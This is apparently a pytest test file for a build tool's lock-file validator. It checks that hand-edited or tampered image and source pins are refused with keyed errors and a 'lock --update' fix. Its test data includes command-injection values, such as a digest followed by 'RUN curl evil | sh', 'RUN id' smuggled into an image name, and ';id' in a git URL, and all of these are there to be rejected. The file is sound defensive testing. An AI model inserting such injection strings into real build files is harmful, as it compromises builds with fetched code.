"""images.lock is checked where it enters: a hand-edited or merged pin is a keyed error
(exit 2) before anything renders, and `lock --update` is the way out (issue 18)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from build_graph.errors import EXIT_CONFIG, ConfigError
from build_graph.manifest.load import load
from build_graph.plan.cache import load_plan
from build_graph.plan.lock import LOCAL, read_lock
from build_graph.plan.plan import plan
from build_graph.stages import pin as pins
from tests.helpers import MINIMAL, write_manifest

DIGEST = "sha256:" + "a" * 64
COMMIT = "c" * 40
FIX = "run `python -m build_graph lock --update` to pin it again"


def lock_errors(folder: Path, text: str) -> list[str]:
    """'key: message' of each issue of a lock that must be refused."""
    path = folder / "images.lock"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        read_lock(path)
    assert all(issue.file == path for issue in caught.value.issues)
    return [f"{issue.key}: {issue.message}" for issue in caught.value.issues]


@pytest.mark.parametrize(
    ("entry", "key", "problem"),
    [
        (
            f'"debian:bookworm-slim" = "{DIGEST}\\nRUN curl evil | sh"',
            'from."debian:bookworm-slim"',
            "is not a pin",
        ),
        (
            f'"debian:bookworm-slim" = "{DIGEST}\\u2028"',
            'from."debian:bookworm-slim"',
            "is not a pin",
        ),
        ('"debian:bookworm-slim" = "sha256:abc"', 'from."debian:bookworm-slim"', "is not a pin"),
        ('"debian:bookworm-slim" = "latest"', 'from."debian:bookworm-slim"', "is not a pin"),
        (
            '"debian:bookworm-slim" = "SHA256:' + "A" * 64 + '"',
            'from."debian:bookworm-slim"',
            "is not a pin",
        ),
        ('"debian:bookworm-slim" = 1', 'from."debian:bookworm-slim"', "is not a pin"),
        (
            f'"debian:bookworm-slim\\nRUN id" = "{DIGEST}"',
            'from."debian:bookworm-slim\\nRUN id"',
            "not an image reference",
        ),
        (f'"Debian Bookworm" = "{DIGEST}"', 'from."Debian Bookworm"', "not an image reference"),
    ],
)
def test_a_bad_image_pin_is_a_keyed_error_with_the_fix(
    tmp_path: Path, entry: str, key: str, problem: str
) -> None:
    [error] = lock_errors(tmp_path, f"[from]\n{entry}\n")
    assert error.startswith(f"{key}: ") and problem in error and FIX in error


@pytest.mark.parametrize(
    ("entry", "key", "problem"),
    [
        (
            '"https://host/repo@main" = "c0ffee"',
            'sources."https://host/repo@main"',
            "is not a commit",
        ),
        (
            f'"https://host/repo@main" = "{COMMIT}\\n"',
            'sources."https://host/repo@main"',
            "is not a commit",
        ),
        (
            f'"https://host/repo;id@main" = "{COMMIT}"',
            'sources."https://host/repo;id@main"',
            "not a git source",
        ),
        (f'"src/local" = "{COMMIT}"', 'sources."src/local"', "not a git source"),
    ],
)
def test_a_bad_source_pin_is_a_keyed_error(
    tmp_path: Path, entry: str, key: str, problem: str
) -> None:
    [error] = lock_errors(tmp_path, f"[sources]\n{entry}\n")
    assert error.startswith(f"{key}: ") and problem in error and FIX in error


def test_good_pins_pass(tmp_path: Path) -> None:
    path = tmp_path / "images.lock"
    path.write_text(
        f'[from]\n"debian:bookworm-slim" = "{LOCAL}"\n"x/y:1" = "{DIGEST}"\n'
        f'[sources]\n"https://h/r@v1" = "{COMMIT}"\n"git://h/r" = "{"d" * 64}"\n'
    )
    lock = read_lock(path)
    assert lock.images == {"debian:bookworm-slim": LOCAL, "x/y:1": DIGEST}
    assert lock.sources == {"https://h/r@v1": COMMIT, "git://h/r": "d" * 64}


def test_every_bad_entry_and_table_is_listed(tmp_path: Path) -> None:
    errors = lock_errors(
        tmp_path, '[form]\n"a" = "b"\n[from]\n"a:1" = "x"\n"b:1" = "y"\n[sources]\n'
    )
    assert [e.split(": ")[0] for e in errors] == ['"form"', 'from."a:1"', 'from."b:1"']
    assert "unknown table" in errors[0]


def test_a_lock_that_is_not_toml_is_refused_with_the_fix(tmp_path: Path) -> None:
    [error] = lock_errors(tmp_path, "[from\n")
    assert "not valid TOML" in error and FIX in error


def test_check_exits_2_and_renders_nothing(tmp_path: Path) -> None:
    manifest = write_manifest(tmp_path, MINIMAL)
    (tmp_path / "images.lock").write_text(
        f'[from]\n"debian:bookworm-slim" = "{DIGEST}\\nRUN curl evil | sh"\n'
    )
    result = subprocess.run(
        [sys.executable, "-m", "build_graph", "check", "--manifest", str(manifest)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == EXIT_CONFIG and "Traceback" not in result.stderr
    assert f'{tmp_path / "images.lock"}: from."debian:bookworm-slim": ' in result.stderr
    assert "lock --update" in result.stderr
    with pytest.raises(ConfigError):
        load_plan(manifest)
    assert not list(tmp_path.rglob("Dockerfile"))


def test_lock_update_repins_what_was_not_a_pin(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The fix the messages name works: nothing has to be deleted by hand."""
    manifest = write_manifest(tmp_path, MINIMAL)
    monkeypatch.setattr(pins, "resolve", lambda ref: DIGEST)
    lock = tmp_path / "images.lock"
    for damaged in ('[from]\n"debian:bookworm-slim" = "sha256:x\\nRUN id"\n', "[from\n"):
        lock.write_text(damaged)
        lines = pins.update(load(manifest), [])
        assert any("dropped" in line for line in lines)
        assert read_lock(lock).images == {"debian:bookworm-slim": DIGEST}


def test_the_fix_for_another_manifests_lock_names_that_manifest(tmp_path: Path) -> None:
    other = tmp_path / "other.toml"
    other.write_text(MINIMAL)
    (tmp_path / "other.lock").write_text('[from]\n"debian:bookworm-slim" = "sha256:nope"\n')
    with pytest.raises(ConfigError) as caught:
        plan(load(other))
    assert f"lock --update --manifest {other}" in str(caught.value)
    assert "other.lock" in str(caught.value)
